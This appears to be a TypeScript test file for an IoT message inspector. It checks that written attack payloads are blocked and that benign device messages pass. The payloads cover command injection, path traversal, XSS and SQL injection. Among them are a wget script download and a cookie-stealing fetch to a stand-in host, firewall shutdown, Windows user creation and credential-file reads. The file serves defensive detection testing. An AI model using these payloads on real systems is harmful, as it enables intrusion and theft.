import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import type { FindingClass } from '../model.js';
import { OfflineInspector } from '../offline.js';
import { DEFAULT_POLICY } from '../policy/policy.js';

/**
 * Attack families the rules cover, one written example each (not taken from the held-out set, which
 * is only reported on), and benign text of the kind that tripped earlier versions. Each runs through
 * the whole chain with the default policy, as a device's PUBLISH would.
 */
const attacks: ReadonlyArray<[FindingClass, string, string]> = [
  [
    'command-injection',
    'service control after a separator',
    '{"ntp":"pool.ntp.org; systemctl stop firewalld"}',
  ],
  ['command-injection', 'an init script', '{"host":"10.0.0.1;/etc/init.d/dropbear restart"}'],
  ['command-injection', 'OpenRC', '{"dns":"1.1.1.1 | rc-service sshd stop"}'],
  ['command-injection', 'OpenRC after a newline', '{"ntp":"192.168.1.1\\nrc-service cron stop"}'],
  ['command-injection', 'an init script after a newline', '{"gw":"8.8.8.8\\n/etc/init.d/mosquitto restart"}'],
  ['command-injection', 'service after &&', '{"a":"x && service docker stop"}'],
  ['command-injection', 'runit in backticks', '{"h":"localhost `sv down sshd`"}'],
  ['command-injection', 'flushing the firewall', '{"gw":"10.0.0.1; nft flush ruleset"}'],
  ['command-injection', 'runlevel change', '{"target":"10.0.0.9 && init 0"}'],
  ['command-injection', 'Windows account creation', '{"printer":"lab & net user eve S3cret! /add"}'],
  ['command-injection', 'registry persistence', '{"p":"x & reg add HKCU\\\\Run /v a /d c:\\\\a.exe"}'],
  ['command-injection', 'exec from code', '{"expr":"__import__(\'os\').system(\'id\')"}'],
  // A Spring expression as a device would send it: the dollar sign is part of the payload.
  ['command-injection', 'exec from Java', `{"tpl":"\${T(java.lang.Runtime).getRuntime().exec('id')}"}`],
  ['command-injection', 'a whole command line', '{"cmd":"wget http://198.51.100.7/x.sh -O /tmp/x.sh"}'],
  ['command-injection', 'argument injection', '{"file":"--output=/etc/cron.d/job http://198.51.100.7/j"}'],
  [
    'command-injection',
    'base64-wrapped script',
    `{"script_b64":"${Buffer.from('; systemctl disable --now ufw').toString('base64')}"}`,
  ],
  ['path-traversal', 'one step to a broker password file', '{"f":"../mosquitto/passwd"}'],
  ['path-traversal', 'one step to a database', '{"f":"..\\\\data\\\\devices.sqlite"}'],
  ['path-traversal', './ padding', '{"f":".././.././.././etc/hosts"}'],
  ['path-traversal', 'IIS division slash', '{"f":"..%u2215..%u2215..%u2215windows/win.ini"}'],
  ['path-traversal', 'MQTT broker configuration', '{"f":"/etc/mosquitto/mosquitto.conf"}'],
  ['path-traversal', "a router's Wi-Fi keys (OpenWrt)", '{"f":"/etc/config/wireless"}'],
  ['path-traversal', 'Windows answer file', '{"f":"c:/windows/panther/unattend.xml"}'],
  ['path-traversal', 'MySQL on Windows', '{"f":"c:/programdata/mysql/my.ini"}'],
  ['path-traversal', 'IIS-lenient overlong backslash', '{"f":"..%c1%1c..%c1%1c..%c1%1cboot.ini"}'],
  ['xss', 'breaking out of a JS string', '{"m":"\'-fetch(\'//198.51.100.7/?\'+document.cookie)-\'"}'],
  ['xss', 'redirecting the page', '{"m":"window.location=\'//198.51.100.7/\'"}'],
  ['xss', 'CSS behavior', '{"m":"<b style=\\"behavior:url(//198.51.100.7/x.htc)\\">"}'],
  ['xss', 'SVG data URI, + decoded to a space', '{"u":"data:image/svg+xml;base64,PHN2Zz4="}'],
  ['xss', 'a DOM sink fed from the URL', '{"loc":"eval(location.hash.slice(1))"}'],
  ['xss', 'a timer running decoded code', '{"c":"setTimeout(\'eval(atob(\\"YWxlcnQoMSk=\\"))\',0)"}'],
  ['xss', 'a portal element', '{"b":"<portal src=\\"//198.51.100.7/\\"></portal>"}'],
  ['xss', 'an external stylesheet', '{"h":"<link rel=stylesheet href=//198.51.100.7/s.css>"}'],
  [
    'xss',
    'CSS expression creating an object',
    '{"a":"<div style=\\"width:expression(new Image().src=1)\\">"}',
  ],
  ['xss', 'template sandbox escape', '{"t":"[[constructor.constructor(\'alert(1)\')()]]"}'],
  [
    'xss',
    'attribute breakout after a bare attribute',
    '{"e":"\\" autofocus onfocus=\\"window.alert(1)\\" x=\\""}',
  ],
  ['sqli', 'a query string value in numeric context', 'GET /q?zone=7&id=12 or length(pw)>2&fmt=csv'],
  ['sqli', 'a value that starts with the clause', '{"sort":" OR 1=1-- "}'],
  ['sqli', 'a column count probe as the value', '{"sort":" ORDER BY 12-- "}'],
  ['sqli', 'a timing function as the whole value', '{"q":"pg_sleep(5)"}'],
  [
    'sqli',
    'a timing function nested in a call',
    '{"q":"1 or 2947=like(\'abc\',upper(hex(randomblob(500000000/2))))"}',
  ],
  ['sqli', 'the session user', '{"q":"select current_user;"}'],
  ['sqli', 'typographic quotes', '{"user":"admin\u2019 or \u20181\u2019=\u20191"}'],
  ['sqli', 'a bitwise break', '{"user":"\'^\'"}'],
  ['xss', 'UTF-7', '{"m":"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}'],
  ['xss', 'a computed global call', '{"m":"top[/al/.source+/ert/.source](1)"}'],
  ['xss', 'IE HTML components', '{"m":"<?import namespace=\\"t\\" implementation=\\"#default#time2\\">"}'],
  ['command-injection', 'a Windows listing after a separator', '{"share":"& dir c:\\\\users"}'],
  ['command-injection', 'a server-side include', '{"m":"<!--#exec cmd=\\"/bin/ls\\" -->"}'],
  ['command-injection', 'Shellshock', '{"ua":"() { :;}; echo vulnerable"}'],
  // The dollar sign and braces are the payload's own, as in the Spring case above.
  ['command-injection', 'PHP in a template expression', `{"t":"\${@print(system($_SERVER['x']))}"}`],
  ['command-injection', 'a template arithmetic probe', '{"t":"{{7*7}}"}'],
  ['path-traversal', 'a password file after encoded junk', '{"f":"..%uF025..%uF025etc/passwd"}'],
];

const benign: readonly string[] = [
  '{"note":"Echo chamber alert: same topic again.\\nPing me when the install is done."}',
  '{"text":"To build:\\n\\nnpm install\\nnpm run build\\n"}',
  '{"status":"Null reading from probe 2; sleep 30 s before retry"}',
  '{"review":"LGTM, but please don\'t use SELECT * here - list the columns."}',
  '{"log":"loaded ../config/app.json"}',
  '{"doc":"see the wireless section of the setup guide; edit config and save"}',
  '{"n":"please restart the service later\\nservice desk will call back"}',
  '{"n":"maintenance window\\nsystemctl is how the unit gets restarted"}',
  '{"n":"the service stops at noon; service resumes at 2"}',
  '{"n":"alarm cleared; service interval restart"}',
  '{"doc":"the eval board reports location data every minute; set a function timeout"}',
  '{"note":"link the stylesheet in the portal settings; expression values are numeric"}',
  '{"n":"boot|service pump start|ok"}',
  '{"n":"maintenance & service window start 02:00"}',
  '{"log":"fan check\\nservice fan stop"}',
  'GET /report?range=20 or 30&order=by date',
  '{"msg":"uses a regular expression (regex) to parse"}',
  '{"cfg":"c2Vuc29yLWNvbmZpZy12Mg=="}',
  '{"image":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}',
  '{"n":"having trouble connecting? restart the hub"}',
  '{"n":"union station platform 4"}',
  '{"n":"order by date, newest first"}',
  '{"n":"select user"}',
  '{"t":"{{temperature}} at {{time}}"}',
  '{"n":"it\u2019s cold; it\u2019s 5 or 6 degrees"}',
  '{"price":"+A5 grade, +AB blood"}',
  // Tasmota's report of a Zigbee Groups-cluster response: the key is cluster<command.
  '{"ZbReceived":{"IKEA_Light":{"Device":"0x5ADF","0004<02":"FF00","GetGroupCapacity":255,"Endpoint":1}}}',
];

describe('attack families, through the whole chain with the default policy', () => {
  const inspector = new OfflineInspector({ policy: DEFAULT_POLICY });
  /** The payload published by a device of its own, on a data topic of its own namespace. */
  const publish = (device: string, payload: string) =>
    inspector.inspect({
      id: device,
      clientId: device,
      topic: `devices/${device}/data`,
      payload: Buffer.from(payload),
    });

  for (const [index, [cls, family, payload]] of attacks.entries()) {
    it(`${cls}: ${family}`, () => {
      const result = publish(`atk-${index}`, payload);
      assert.notEqual(result.decision, 'allow', JSON.stringify(result.findings));
      assert.ok(result.classes.includes(cls), `${cls} among ${result.classes.join(', ')}`);
    });
  }
  for (const [index, payload] of benign.entries()) {
    it(`benign: ${payload.slice(0, 60)}`, () => {
      const result = publish(`ok-${index}`, payload);
      assert.equal(result.decision, 'allow', JSON.stringify(result.findings));
    });
  }
  it('base64 of binary is not unwrapped (left to size and entropy)', () => {
    const result = publish('ok-bin', JSON.stringify({ blob: randomBytes(48).toString('base64') }));
    assert.equal(result.decision, 'allow');
  });
});
